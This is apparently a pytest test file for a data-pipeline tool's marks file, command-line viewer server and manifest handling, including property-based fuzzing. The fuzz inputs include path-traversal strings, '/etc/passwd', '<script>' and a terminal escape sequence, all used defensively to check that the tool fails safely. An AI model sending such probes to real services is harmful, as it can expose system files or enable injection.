        (b'{"id":"a","mark":"great"}\n', "great"), (b'{"id":"a","mark":"bad","x":1}\n', "unknown field"), (b"\xff\n", "Unicode"),
        (b'{"id":"a","mark":"bad"}\n{"id":"a","mark":"bad"}\n', "marked above"), (b'{"id":"a","mark":"bad"}', "newline"),
        (b'{"id":"a","id":"b","mark":"bad"}\n', "twice"), (b'{"id":"a","mark":"bad","note":"' + b"x" * 2001 + b'"}\n', "length"),
    ],
)  # fmt: skip
def test_a_file_of_marks_that_cannot_be_used_is_named_with_its_line(tmp_path: Path, line: bytes, problem: str) -> None:
    (tmp_path / marks.FILE).write_bytes(line)
    with pytest.raises(InputError, match=r"marks\.jsonl:[12]: ") as told:
        marks.read(tmp_path / marks.FILE)
    assert problem in str(told.value) or problem == "Expecting"


def test_a_filter_drops_what_was_marked_bad_and_the_audit_accepts_the_marks(own: Path) -> None:
    project = own
    folder = project.parent / "runs" / "small"
    marks.put(folder, "r3", Mark(id="r3", mark="bad", note="about another match", stage="quality"))
    marks.put(folder, "r4", Mark(id="r4", mark="good"))
    assert list(audit(folder)) == []
    project.write_text(
        project.read_text().replace(
            "- label_in_set", "- {marked_bad: {file: runs/small/marks.jsonl}}\n      - label_in_set"
        )
    )
    outcomes = {one.stage: one for one in run(load(project))}
    assert {stage for stage, one in outcomes.items() if one.ran} == {"quality", "shard"}
    drops = {drop.id: drop for drop in outputs.read_drops(outcomes["quality"].folder)}
    assert drops["r3"].reason == "marked_bad" and drops["r3"].evidence["why"] == "marked bad: 'about another match'"
    assert "r4" not in drops
    assert list(audit(folder, full=True)) == []
    told = story(folder, "r3")
    assert told.fate == "dropped by quality: marked bad"
    marks.put(folder, "r3", None)
    assert {one.stage for one in run(load(project)) if one.ran} == {"quality", "shard"}
    assert list(audit(folder)) == []


# ------------------------------------------------------------------------------------------------------------- command

COMMAND = [sys.executable, "-c", "from pipeline.cli import main; main()"]


def test_the_command_serves_until_ctrl_c(made: Path) -> None:
    arguments = [*COMMAND, "view", "-c", str(made), "--no-browser", "--port", "0"]
    with subprocess.Popen(arguments, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as server:
        assert server.stdout is not None
        line = server.stdout.readline()
        address = re.search(r"http://127\.0\.0\.1:\d+/\S+/", line)
        assert address is not None and line.count("\n") == 1
        assert httpx.get(address[0]).status_code == 200
        server.send_signal(signal.SIGINT)
        out, errors = server.communicate(timeout=20)
    assert (server.returncode, out, errors) == (0, "", "")


def test_marks_are_exported(own: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = own.parent / "runs" / "small"
    marks.put(folder, "r1", Mark(id="r1", mark="bad", note="\x1b[2J"))
    capsys.readouterr()
    view(own, export=Path("-"))
    printed = capsys.readouterr().out
    assert json.loads(printed) == {"id": "r1", "mark": "bad", "note": "\x1b[2J", "stage": None}
    assert "\x1b" not in printed
    view(None, path=folder, export=tmp_path / "out.jsonl")  # type: ignore[arg-type]  # is not read
    assert (tmp_path / "out.jsonl").read_bytes() == (folder / marks.FILE).read_bytes()


def test_what_cannot_be_served_is_said(made: Path, tmp_path: Path) -> None:
    with pytest.raises(RunError, match="no finished stage to look at; run `stepdistill run`"), app.running(tmp_path):
        pass
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        with (
            pytest.raises(InputError, match=rf"--port {port}: Address already in use; give another"),
            app.running(made.parent / "runs" / "small", port=port),
        ):
            pass


PAGES = (
    "", "row?id=r0", "row?id=r25", "eval?set=test&row=t0", "marks", "marks.jsonl", "style.css",
    *(f"stage/{name}{more}" for name in ("ingest", "sample", "parse", "dedup", "quality", "shard") for more in
      ("", "?rows=dropped", "?q=goal&label=sports&teacher=recorded")),
)  # fmt: skip
NONSENSE = st.recursive(
    st.none() | st.booleans() | st.integers() | st.integers(-(2**70), 2**70) | st.floats(allow_nan=False)
    | st.text(max_size=8) | st.sampled_from(["..", "../../x", "/etc/passwd", "<script>", "a" * 32, "part-00000.jsonl"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=4,
)  # fmt: skip


def places_in(value: Any, *steps: str | int) -> Iterator[tuple[str | int, ...]]:
    """Every place in a JSON value, the whole last."""
    for step, item in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from places_in(item, *steps, step)
    yield steps


def mangled(data: st.DataObject, whole: bytes) -> bytes:
    """A manifest with nonsense in it: torn bytes, or some other value anywhere, its own digest made to fit where it still is a manifest."""
    if data.draw(st.integers(0, 4)) == 0:
        start = data.draw(st.integers(0, len(whole)))
        return whole[:start] + data.draw(st.binary(max_size=8)) + whole[start + data.draw(st.integers(0, 40)) :]
    value = json.loads(whole)
    places = [place for place in places_in(value) if place and place[0] not in ("environment", "code", "features")]
    for place in data.draw(st.lists(st.sampled_from(places), min_size=1, max_size=3)):
        holder = value
        with suppress(LookupError, TypeError):  # nonsense stands there already, in which there is no such place
            for step in place[:-1]:
                holder = holder[step]
            holder[place[-1]] = data.draw(NONSENSE)
    try:
        manifest = Manifest.model_validate_json(json.dumps(value))
        return outputs.manifest_bytes(manifest.model_copy(update={"digest": manifest_digest(manifest)}))
    except ValueError:
        return json.dumps(value).encode()


@pytest.fixture
def client() -> Iterator[httpx.Client]:
    """Asks many pages for the price of one start."""
    with httpx.Client(timeout=60) as found:
        yield found


@settings(max_examples=1000 if "NIGHTLY" in os.environ else 25, suppress_health_check=[*HealthCheck])
@given(data=st.data())
def test_a_manifest_of_nonsense_gives_pages_that_say_what_is_wrong(
    own_pages: tuple[Path, str], client: httpx.Client, data: st.DataObject
) -> None:
    folder, address = own_pages
    stage = data.draw(st.sampled_from(["ingest", "sample", "parse", "dedup", "decontaminate", "quality", "shard"]))
    current = outputs.current(folder, stage)
    assert current is not None
    manifest = current / "manifest.json"
    whole = manifest.read_bytes()
    nonsense = mangled(data, whole)
    pages = data.draw(st.lists(st.sampled_from(PAGES), min_size=4, max_size=4, unique=True))
    manifest.write_bytes(nonsense)
    try:
        with suppress(InputError, RunError, OSError):  # which are one line; what the start of the viewer does
            lineage.missing(folder, FOLLOWED)
        for page in ("", f"stage/{stage}", *pages):
            found = client.get(address + page)
            assert found.status_code in (200, 303, 404, 409), (page, found.text)
            if found.status_code == 409:
                assert f"{stage}/{current.name}/manifest.json" in found.text, found.text
                assert "<code>stepdistill audit</code>" in found.text
    finally:
        manifest.write_bytes(whole)
    counted("pages asked for over a manifest of nonsense", 2 + len(pages))


@pytest.mark.parametrize("stage", ["quality", "train"])
def test_a_run_whose_manifest_is_damaged_is_not_served(own: Path, stage: str) -> None:
    folder = own.parent / "runs" / "small"
    current = outputs.current(folder, "quality")
    assert current is not None
    if stage == "train":  # of which no row is followed
        shutil.copytree(current, folder / "train" / current.name)
        outputs.point(folder, "train", current.name)
    damaged = folder / stage / current.name / "manifest.json"
    damaged.write_bytes(damaged.read_bytes().replace(b'"kept":', b'"kept":1', 1))
    problem = rf"{damaged}: digest: does not fit the content; .*; `stepdistill audit` names all"
    with pytest.raises(RunError, match=problem), app.running(folder):
        pass


def test_a_port_that_is_taken_is_passed_over_where_none_was_asked_for(
    made: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = made.parent / "runs" / "small"
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        monkeypatch.setattr(app, "PORT", taken.getsockname()[1])
        with app.running(folder) as address:
            assert urlsplit(address).port != app.PORT
            assert httpx.get(address).status_code == 200
